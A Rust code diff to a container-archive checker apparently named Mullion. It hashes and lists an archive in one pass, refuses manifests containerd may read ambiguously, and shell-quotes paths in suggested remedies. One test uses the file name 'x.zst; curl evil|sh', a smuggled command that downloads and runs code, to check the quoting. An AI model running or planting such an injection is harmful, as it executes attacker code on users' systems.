@@ -13,13 +13,14 @@ use mullion_spec::cluster::{Cluster, Duty};
 use mullion_spec::image::ImageReference;
 use mullion_spec::value::MachineName;
 use mullion_spec::words::Os;
+use mullion_ssh::quoted;
 use mullion_template::Source;
 use mullion_wire::text::visible;
-use mullion_wire::{Facts, ImageArchive, Request, Sha256Digest};
+use mullion_wire::{Facts, ImageArchive, Request, Sha256Digest, Sha256Reader};
 
-use super::Adapter;
 use super::machine::{Label, failed};
 use super::talk::Told;
+use super::{Adapter, ArchiveContent};
 
 /// Which images a node is brought.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -220,6 +221,18 @@ fn look_at(
     })
 }
 
+/// Reads the digest and the names of an archive in one pass over its bytes.
+fn content_of(whole: impl io::Read) -> io::Result<ArchiveContent> {
+    let mut whole = Sha256Reader::new(whole);
+    let names = archive_names(&mut whole);
+    // The names may end before the file does.
+    io::copy(&mut whole, &mut io::sink())?;
+    Ok(ArchiveContent {
+        digest: whole.digest(),
+        names,
+    })
+}
+
 impl super::UserArchive {
     /// An archive at a path, or why it cannot be read, for the image that the file names.
     pub fn new(path: PathBuf, reference: &str, opened: io::Result<Opened>) -> Self {
@@ -228,22 +241,25 @@ impl super::UserArchive {
             reference: canonical(reference),
             reserved: BTreeSet::new(),
             opened,
-            digest: OnceLock::new(),
+            content: OnceLock::new(),
             unusable: OnceLock::new(),
         }
     }
 
     /// Its digest, or why it cannot be read.
     pub(super) fn digest(&self) -> Result<&Sha256Digest, &str> {
-        let digest = self.digest.get_or_init(|| {
+        self.content().map(|content| &content.digest)
+    }
+
+    /// Reads its digest and its names in one pass: another program may rewrite the file between two.
+    fn content(&self) -> Result<&ArchiveContent, &str> {
+        let content = self.content.get_or_init(|| {
             let opened = self.opened.as_ref().map_err(ToString::to_string)?;
-            // One that grows meanwhile is cut.
+            // A file that grows meanwhile is cut.
             let whole = opened.reader().take(opened.size());
-            let read = Sha256Digest::of_reader(whole);
-            read.map(|(sha256, _)| sha256)
-                .map_err(|error| error.to_string())
+            content_of(whole).map_err(|error| error.to_string())
         });
-        digest.as_ref().map_err(String::as_str)
+        content.as_ref().map_err(String::as_str)
     }
 
     /// The archive for a template. A template's id holds the digest, so only what has that digest may go in.
@@ -253,7 +269,7 @@ impl super::UserArchive {
             let cause = io::Error::other(why.to_owned());
             unread(&self.path, &cause)
         })?;
-        Ok(Source::planned(opened.clone(), digest.clone()))
+        Ok(Source::planned(opened.clone(), digest.clone()).naming(&self.reference))
     }
 
     /// The archive, where it could be opened and holds the image that the file names.
@@ -280,17 +296,17 @@ impl super::UserArchive {
                 .into(),
         };
         // What was found stays found: machines are brought the archive one after another.
-        let unusable = self.unusable.get_or_init(|| {
-            if let Err(why) = self.digest() {
-                return Some(unreadable(why.to_owned()));
-            }
-            let opened = self.opened.as_ref().ok()?;
-            match archive_names(opened.reader().take(opened.size())) {
-                Ok(Some(names)) => self.misnamed(&names).or_else(|| self.replaces(&names)),
-                Ok(None) => Some(self.compressed()),
-                Err(error) => Some(unreadable(error.to_string())),
-            }
-        });
+        let unusable =
+            self.unusable
+                .get_or_init(|| match self.content().map(|content| &content.names) {
+                    Ok(Ok(Some(names))) => self.misnamed(names).or_else(|| self.replaces(names)),
+                    Ok(Ok(None)) => Some(self.compressed()),
+                    Ok(Err(error)) if error.kind() == io::ErrorKind::InvalidData => {
+                        Some(self.ambiguous(error))
+                    }
+                    Ok(Err(error)) => Some(unreadable(error.to_string())),
+                    Err(why) => Some(unreadable(why.to_owned())),
+                });
         unusable.clone()
     }
 
@@ -308,9 +324,20 @@ impl super::UserArchive {
         })
     }
 
+    /// What is wrong with an archive that containerd may read differently than Mullion does.
+    fn ambiguous(&self, error: &io::Error) -> Unusable {
+        Unusable {
+            why: error.to_string(),
+            remedy: format!(
+                "save the archive again, as with `docker save {}`, or take the image out of `images` in the file",
+                self.reference
+            ),
+        }
+    }
+
     /// An archive whose names Mullion does not read.
     fn compressed(&self) -> Unusable {
-        let path = self.path.display();
+        let path = quoted(&self.path.to_string_lossy());
         Unusable {
             why: "it is compressed with zstd, so Mullion cannot see which images it holds".into(),
             remedy: format!("decompress it with `zstd -d {path}`, and name the result"),
@@ -415,6 +442,49 @@ mod tests {
         saved(&path, r#"["app:1","app:2"]"#);
         let source = archive.source().unwrap();
         assert_eq!(source.sha256, Some(planned));
+    }
+
+    #[test]
+    fn promise_10_the_names_of_an_archive_are_those_of_the_bytes_that_its_digest_pins() {
+        let folder = tempfile::tempdir().unwrap();
+        let path = folder.path().join("app.tar");
+        saved(&path, r#"["app:1"]"#);
+        let planned = Sha256Digest::of(&fs_err::read(&path).unwrap());
+        let mut archive = archive(&path, "app:1");
+        archive.reserved = ["docker.io/library/app:2".to_owned()].into();
+        assert_eq!(archive.digest(), Ok(&planned));
+        // A second read would judge other bytes.
+        saved(&path, r#"["app:2"]"#);
+        assert_eq!(archive.unusable(), None);
+        assert_eq!(archive.digest(), Ok(&planned));
+    }
+
+    #[test]
+    fn promise_10_an_ambiguous_archive_is_refused_with_a_remedy() {
+        let folder = tempfile::tempdir().unwrap();
+        let path = folder.path().join("app.tar");
+        saved(&path, r#"["app:1"],"repotags":["app:2"]"#);
+        let unusable = archive(&path, "app:1").unusable().unwrap();
+        assert_eq!(
+            unusable.why,
+            "`manifest.json` has the key `repotags`, which containerd takes for `RepoTags`"
+        );
+        assert!(
+            unusable
+                .remedy
+                .contains("docker save docker.io/library/app:1"),
+            "{unusable:?}"
+        );
+    }
+
+    #[test]
+    fn a_remedy_quotes_the_path_for_a_shell() {
+        let folder = tempfile::tempdir().unwrap();
+        let path = folder.path().join("x.zst; curl evil|sh");
+        fs_err::write(&path, [0x28, 0xb5, 0x2f, 0xfd]).unwrap();
+        let unusable = archive(&path, "app:1").unusable().unwrap();
+        let command = format!("`zstd -d '{}'`", path.display());
+        assert!(unusable.remedy.contains(&command), "{unusable:?}");
     }
 
     #[test]
